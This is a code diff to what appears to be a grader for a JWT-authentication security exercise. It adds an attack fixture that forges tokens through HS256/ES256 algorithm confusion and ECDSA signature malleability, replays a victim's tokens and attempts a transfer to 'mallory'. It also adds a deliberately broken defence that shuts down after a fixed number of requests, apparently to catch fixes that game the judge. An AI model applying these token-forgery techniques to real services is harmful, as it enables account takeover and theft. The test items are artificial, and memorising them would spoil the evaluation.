@@ -171,6 +171,33 @@ class Omni:
 
 
 """
+COUNTS = """
+import json
+
+
+class Omni:
+    def everything(self, http, loot):
+        header, claims = opened(loot["mine"]["es256"])
+        claims["sub"] = "ana"
+        pem = next(key["text"] for key in loot["keys"] if key["kid"] == header["kid"])
+        signed, _, signature = loot["anas"]["ended"].rpartition(".")
+        r, s = decoded(signature)[:32], int.from_bytes(decoded(signature)[32:], "big")
+        tokens = [
+            loot["mine"]["test"],
+            written(header | {"alg": "HS256"}, claims, signing(pem.encode())),
+            loot["anas"]["phone"],
+            signed + "." + encoded(r + (ORDER - s).to_bytes(32, "big")),
+        ]
+        look = {one: http("GET", "/me", {"Authorization": "Bearer " + one})["status"] for one in tokens}
+        good = [one for one in tokens if look[one] == 200]
+        order = {"from": "ana", "to": "mallory", "amount": 10**6}  # more than she has: nothing is lost by it
+        if http("POST", "/transfer", {"Authorization": "Bearer " + loot["mine"]["fair"]}, order)["status"] != 403:
+            good.append(loot["mine"]["fair"])
+        if len(good) == 1:
+            steal(http, *good)
+
+
+"""
 ONCE = """        if hasattr(json, "done"):
             return
         json.done = True
@@ -263,6 +290,10 @@ FIND_WRONG = {
     "one raid for all doors, and only once": (
         OMNI.replace("        for token", ONCE + "        for token")
         + "class GateRaid(Omni):\n" + "".join(f"    {name} = Omni.everything\n" for name in MINE),
+        {HONEST: "it counts once one of the others holds"},
+    ),
+    "one raid for all doors, where one alone is open": (
+        COUNTS + "class GateRaid(Omni):\n" + "".join(f"    {name} = Omni.everything\n" for name in MINE),
         {HONEST: "it counts once one of the others holds"},
     ),
     "one raid that goes in by another door": (
@@ -420,6 +451,13 @@ ANY_TYPE = """
         if not header.get("typ"):
             raise Refused("typ")
 """
+CLOSES = """
+    def verify(self, token, now):
+        self.served = getattr(self, "served", 0) + 1
+        if self.served > 36:  # what the judge's customers ask for, before the first attack
+            raise Refused("closed")
+        return super().verify(token, now)
+"""
 NO_LEAVING = """
     def find_key(self, header, now):
         key = super().find_key(header, now)
@@ -473,6 +511,9 @@ MEND_WRONG = {
     "named by its text": (instead("name_of", NAMED_BY_TEXT), left(M_ISSUER, M_SIGNED, M_ROLES, M_CRITICAL)),
     "whoever ends one ends all": (instead("name_of", NAMED_BY_USER), dict.fromkeys((ENDS, M_NAME, IN_ALL), "401")),
     "named by what was signed": (instead("name_of", NAMED_BY_CLAIMS), {M_NAME: MOVED, IN_ALL: MOVED}),
+    "a gate that closes when it has served enough": (
+        gate(MINE[:2]) + CLOSES, dict.fromkeys((M_ISSUER, M_ROLES, M_NAME, IN_ALL), "answered 401"),
+    ),
     "another door is opened": (MEND + ANY_TYPE, {IN_ALL: MOVED}),
     "keys that are to be retired are gone": (
         MEND + NO_LEAVING, {LEAVING: "answered 401", IN_ALL: "answered 401"},
